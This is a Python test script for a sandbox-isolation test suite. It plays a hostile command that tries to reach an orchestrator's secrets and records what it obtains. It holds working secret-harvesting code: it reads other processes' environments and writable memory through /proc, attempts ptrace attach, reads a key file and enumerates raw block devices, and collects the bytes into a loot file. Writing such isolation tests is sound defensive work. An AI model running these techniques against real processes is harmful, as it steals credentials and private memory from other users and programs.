# A hostile gate command (used by tests/gate_isolation.rs): it tries every way open to it
# to obtain the orchestrator's secrets and writes what it saw.
#
#   python3 gate_attack.py OUT_DIR KEY_FILE CANARY_FILE ORCH_PID_FILE
#
# OUT_DIR/report.json  what was tried and what each attempt gave (sizes, errors)
# OUT_DIR/loot.bin     every byte it managed to read (the test searches it for the secrets)
#
# Canaries prove the attempts work: a child of this script carries CANARY_ENV in its
# environment and memory, and must be found through /proc/PID/environ, /proc/PID/mem and
# ptrace; CANARY_FILE (readable by rights) must be read.
import ctypes
import json
import os
import stat
import subprocess
import sys
import time

out_dir, key_file, canary_file, orch_pid_file = sys.argv[1:5]
CANARY = "gate-canary-7f3a9c1e5b"
loot = bytearray()
report = {"attempts": {}}


def attempt(name, f):
    try:
        r = f()
        report["attempts"][name] = r
    except Exception as e:  # every failure is recorded, never fatal
        report["attempts"][name] = {"error": repr(e)}


def take(data):
    loot.extend(data)
    loot.extend(b"\n")
    return len(data)


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def ptrace_attach(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        os.waitpid(pid, 0)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return "attached"
    return "refused: " + os.strerror(ctypes.get_errno())


def read_environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return take(f.read())


def read_mem(pid):
    """Every readable, writable mapping of pid through /proc/PID/mem."""
    total, errors = 0, set()
    with open(f"/proc/{pid}/maps") as maps:
        regions = []
        for line in maps:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if parts[1].startswith("rw") and hi - lo <= 256 * 1024 * 1024:
                regions.append((lo, hi))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for lo, hi in regions:
            try:
                mem.seek(lo)
                total += take(mem.read(hi - lo))
            except OSError as e:
                errors.add(e.strerror)
    return {"bytes": total, "errors": sorted(errors)}


# 1. Our own environment.
attempt("own_environment", lambda: take(b"\0".join(
    k.encode() + b"=" + v.encode() for k, v in os.environ.items())))

# A child holding the canary in its environment (and so in its memory).
child = subprocess.Popen(["sleep", "60"], env={"CANARY_ENV": CANARY, "PATH": os.environ.get("PATH", "")})

# 2. Every ancestor, then every process we can see.
ancestors = []
pid = os.getppid()
while pid > 0 and len(ancestors) < 64:
    ancestors.append(pid)
    try:
        with open(f"/proc/{pid}/status") as f:
            pid = next(int(l.split()[1]) for l in f if l.startswith("PPid:"))
    except OSError:
        break
report["ancestors"] = ancestors

# The orchestrator's PID as the host sees it (the test writes it once known).
orch_pid = None
deadline = time.monotonic() + 10
while time.monotonic() < deadline:
    try:
        orch_pid = int(open(orch_pid_file).read().strip())
        break
    except (OSError, ValueError):
        time.sleep(0.05)
report["orchestrator_pid"] = orch_pid

visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
report["visible_pids"] = visible
report["self"] = os.getpid()
report["canary_child"] = child.pid
# Memory and ptrace: the ancestors and the orchestrator (trying them on every process
# of a shared machine would stop strangers' processes); environ: every visible process.
targets = [p for p in dict.fromkeys(ancestors + ([orch_pid] if orch_pid else []))
           if p != os.getpid() and p != child.pid]
report["targets"] = targets
for p in targets:
    attempt(f"environ:{p}", lambda p=p: read_environ(p))
    attempt(f"mem:{p}", lambda p=p: read_mem(p))
    attempt(f"ptrace:{p}", lambda p=p: ptrace_attach(p))
for p in visible:
    if p not in targets and p != os.getpid() and p != child.pid:
        attempt(f"environ:{p}", lambda p=p: read_environ(p))

# Canaries: the same three ways against our own child must work.
attempt("canary_environ", lambda: read_environ(child.pid))
attempt("canary_mem", lambda: read_mem(child.pid))
attempt("canary_ptrace", lambda: ptrace_attach(child.pid))
child.kill()
child.wait()

# 3. The key file, and a file next to it we may read.
attempt("key_file", lambda: take(open(key_file, "rb").read()))
attempt("canary_file", lambda: take(open(canary_file, "rb").read()))

# 4. Block devices (the raw disk holds the key file too).
def block_devices():
    found = []
    for name in os.listdir("/dev"):
        try:
            if stat.S_ISBLK(os.stat("/dev/" + name).st_mode):
                found.append(name)
        except OSError:
            pass
    return found
attempt("block_devices", block_devices)

report["loot_bytes"] = len(loot)
report["canary_in_loot"] = CANARY.encode() in loot
with open(os.path.join(out_dir, "loot.bin"), "wb") as f:
    f.write(loot)
with open(os.path.join(out_dir, "report.json"), "w") as f:
    json.dump(report, f, indent=1)
